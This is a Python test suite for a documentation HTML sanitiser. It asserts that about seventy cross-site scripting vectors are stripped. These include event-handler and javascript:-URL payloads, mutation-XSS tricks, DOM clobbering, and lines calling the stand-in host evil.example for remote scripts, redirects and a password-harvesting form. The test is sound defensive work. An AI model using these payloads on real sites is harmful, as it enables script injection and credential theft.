"""What documents may hold: asserted on the parsed HTML, over vectors and over made-up input."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from counterpoint.catalog.docs.conversion import convert
from counterpoint.catalog.docs.sanitise import ATTRIBUTES, CLASSES, PREFIX, TAGS, sanitise

SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
"""As a browser finds it: control characters and spaces are left out first."""
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate attributeName=href values="javascript:alert(1)"></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=x>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:x">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<textarea></textarea><select><option>x</select>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<div id=search>x</div><a id=main>x</a><div id=shortcuts>x</div>",
    "<img name=body src=x><form id=cookie><input name=get>",
    '<div class="menu-sheet topbar skip btn">x</div>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1) tabindex=0 autofocus>x</x>",
    "<a href=x target=_top ping=//evil.example download>x</a>",
    "<p dir=rtl lang=x accesskey=x contenteditable>x</p>",
    "# x {: onclick=alert(1) style=color:red id=search class=btn }",
    "[x](y){: href=javascript:alert(1) onclick=alert(1) target=_blank }",
    "![x](y.png){: srcset=x onerror=alert(1) }",
    '```{.python onclick="alert(1)" id="main"}\nx\n```',
    '!!! "note\\" onclick=alert(1)"\n    x',
    '!!! menu-sheet "<img src=x onerror=alert(1)>"\n    x',
    '=== "<img src=x onerror=alert(1)>"\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    "[[component:x|<script>alert(1)</script>]]",
    '[[component:x"onmouseover="alert(1)]]',
    '*[x]: "><script>alert(1)</script>\n\nx',
    '++alert+"<script>alert(1)</script>"++',
    "`#!html <script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [x] <input type=text autofocus onfocus=alert(1)>",
    "{++<script>alert(1)</script>++}",
]


class Elements(HTMLParser):
    """Every element of a text, as a browser would see it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_safe(html: str) -> None:
    allowed = {tag: ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) for tag in TAGS}
    allowed["a"] |= {"rel"}
    allowed["pre"] |= {"tabindex"}
    for tag, attributes in Elements(html).found:
        assert tag in TAGS, tag
        assert set(attributes) <= allowed[tag], (tag, attributes)
        assert (attributes.get("id") or PREFIX).startswith(PREFIX)
        assert set((attributes.get("class") or "").split()) <= CLASSES
        for name in ("href", "src"):
            scheme = SCHEME.match(re.sub(r"[\x00-\x20]", "", attributes.get(name) or ""))
            assert scheme is None or scheme.group(1).lower() in {"http", "https", "mailto", "entity"}


def shown(text: str) -> str:
    return sanitise(convert(text).html, lambda _tag, _name, value: value)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_leads_astray_comes_through(vector):
    assert_safe(shown(vector))
    assert_safe(shown(f"text {vector} text"))
    assert_safe(shown(f"> - {vector}\n"))
    assert_safe(sanitise(vector, lambda _tag, _name, value: value))


PIECES = st.sampled_from(
    [
        "<script>", "</script>", "<svg>", "</svg>", "<style>", "</style>", "<math>", "<!--", "-->", "<a href=", "javascript:",
        "<img src=x ", "onerror=alert(1)", ">", '"', "'", "`", "\n", "\n\n", "    ", "[x](", ")", "{: ", "}", "&#x6a;",
        "<p title='", "</", "<details name=a>", "<table>", "<td>", "!!! ", "=== ", "```", "|", "- [x] ", "[[component:x]]", "id=search", "]]>",
    ]
)  # fmt: skip


@given(st.lists(PIECES | st.text(max_size=5), max_size=25).map("".join))
def test_no_mixture_of_pieces_comes_through(text):
    assert_safe(shown(text))


def test_what_documents_are_made_of_stays():
    html = shown(
        "# T\n\n*a* **b** `c`\n\n| x |\n|---|\n| y |\n\n![alt](i.png)\n\n<details><summary>s</summary>d</details>"
    )
    tags = {tag for tag, _attributes in Elements(html).found}
    assert {"h1", "em", "strong", "code", "table", "img", "details", "summary"} <= tags


def test_an_address_that_is_left_out_leaves_its_text():
    assert sanitise('<a href="x">text</a>', lambda *_: None) == '<a rel="noopener noreferrer">text</a>'
